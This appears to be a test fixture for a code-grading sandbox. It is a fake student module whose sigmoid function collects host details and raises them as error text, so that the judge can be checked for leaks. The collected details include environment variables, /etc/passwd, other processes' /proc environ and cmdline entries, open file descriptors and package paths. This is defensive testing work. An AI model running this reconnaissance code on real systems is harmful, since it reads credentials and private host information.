# module: activations
# attack: sigmoid gathers everything the worker can see of the host (every /proc entry's
#    cmdline, environ, mountinfo, maps, uid_map; sys.path, every module's __file__ and code
#    paths, the environment, ids, /etc/passwd, sysconfig, tracebacks, open descriptors, cwd,
#    .pth files, package metadata) and raises it as its error text
# expect: score 47 of 50; failed: sigmoid sigmoid_stability
# fallback: yes
# The judge must show the student nothing of the host in that text: tests/test_host_view.py
# checks feedback, notes, results.json and the gradebook for host paths, the user and the uid.

import json
import os
import re
import sys
import traceback

_PATHS = re.compile(r"/[A-Za-z0-9_.@+\-]+(?:/[A-Za-z0-9_.@+\-]*)*")


def _read(path, limit=1 << 16):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except Exception as error:  # noqa: BLE001
        return f"<{type(error).__name__}: {error}>"


def _try(action):
    try:
        return repr(action())
    except Exception as error:  # noqa: BLE001
        return f"<{type(error).__name__}: {error}>"


def _gather():
    """Every channel by name: what the worker could learn through it."""
    seen = {}
    seen["sys.path"] = repr(sys.path)
    modules = list(sys.modules.values())
    seen["__file__"] = repr(sorted({str(getattr(m, "__file__", None)) for m in modules}))
    codes = set()
    for module in modules:
        for value in list(getattr(module, "__dict__", {}).values())[:200]:
            code = getattr(value, "__code__", None)
            if type(code).__name__ == "code":
                codes.add(code.co_filename)
    seen["co_filename"] = repr(sorted(codes))
    seen["sys"] = repr([sys.executable, getattr(sys, "_base_executable", None), sys.prefix,
                        sys.base_prefix, sys.exec_prefix, sys.argv,
                        getattr(sys, "orig_argv", None), getattr(sys, "_stdlib_dir", None)])
    seen["os.environ"] = repr(dict(os.environ))
    seen["ids"] = _try(lambda: [os.getuid(), os.geteuid(), os.getgid(), os.getegid(),
                                os.getgroups(), os.getpid(), os.getppid(), os.getpgrp()])
    seen["login"] = _try(os.getlogin)
    seen["pwd"] = _try(lambda: __import__("pwd").getpwuid(os.getuid()))
    seen["/etc/passwd"] = _read("/etc/passwd")
    seen["/etc/group"] = _read("/etc/group")
    seen["/etc/hostname"] = _read("/etc/hostname")
    seen["uname"] = _try(os.uname)
    seen["cwd"] = _try(os.getcwd)
    seen["home"] = _try(lambda: os.path.expanduser("~"))
    pids = _try(lambda: sorted(p for p in os.listdir("/proc") if p.isdigit()))
    seen["/proc"] = pids
    for pid in ["self", "thread-self", "1", "2", "3", *re.findall(r"'(\d+)'", pids)][:40]:
        for name in ("cmdline", "environ", "mountinfo", "mounts", "maps", "status", "uid_map",
                     "gid_map", "cgroup", "stat", "comm", "sched"):
            seen[f"/proc/{pid}/{name}"] = _read(f"/proc/{pid}/{name}")
        for name in ("exe", "cwd", "root"):
            link = f"/proc/{pid}/{name}"
            seen[f"{link} ->"] = _try(lambda path=link: os.readlink(path))
    seen["fds"] = _try(lambda: {fd: os.readlink(f"/proc/self/fd/{fd}")
                                for fd in os.listdir("/proc/self/fd")})
    for fd in range(64):  # whatever an inherited descriptor holds
        data = _try(lambda d=fd: os.pread(d, 1 << 14, 0))
        if not data.startswith("<"):
            seen[f"fd {fd}"] = data
    for name in ("/proc/mounts", "/proc/cmdline", "/proc/self/mountinfo"):
        seen[name] = _read(name)
    import sysconfig

    seen["sysconfig vars"] = _try(sysconfig.get_config_vars)
    seen["sysconfig paths"] = _try(sysconfig.get_paths)
    for folder in sys.path:
        try:
            pth = [n for n in os.listdir(folder) if n.endswith(".pth") or "editable" in n]
        except OSError:
            continue
        for name in pth:
            seen[f"{folder}/{name}"] = _read(os.path.join(folder, name))
    try:
        from importlib import metadata

        for dist in list(metadata.distributions())[:400]:
            seen[f"dist {dist.metadata['Name']}"] = repr([dist.read_text("direct_url.json"),
                                                         str(getattr(dist, "_path", ""))])
    except Exception as error:  # noqa: BLE001
        seen["metadata"] = repr(error)
    # Only folders every sandbox has: an error about a guessed host path would name the guess.
    for folder in ("/", "/tmp", "/opt", "/opt/vg", "/submission", "/usr/local", "/etc", "/dev"):
        seen[f"ls {folder}"] = _try(lambda f=folder: sorted(os.listdir(f)))
    try:
        np.zeros(-1)
    except Exception:  # noqa: BLE001
        seen["numpy traceback"] = traceback.format_exc()
    try:
        __import__("no_such_module_anywhere")
    except Exception:  # noqa: BLE001
        seen["import traceback"] = traceback.format_exc()
    seen["stack"] = "".join(traceback.format_stack())
    return seen


def _paths_first(seen):
    """The error text: every path-like string seen (deduplicated), then everything else."""
    text = json.dumps(seen)
    paths = sorted(set(_PATHS.findall(text)))
    return "VG-GATHERED " + " ".join(paths) + " " + text


def sigmoid(z):
    raise RuntimeError(_paths_first(_gather()))
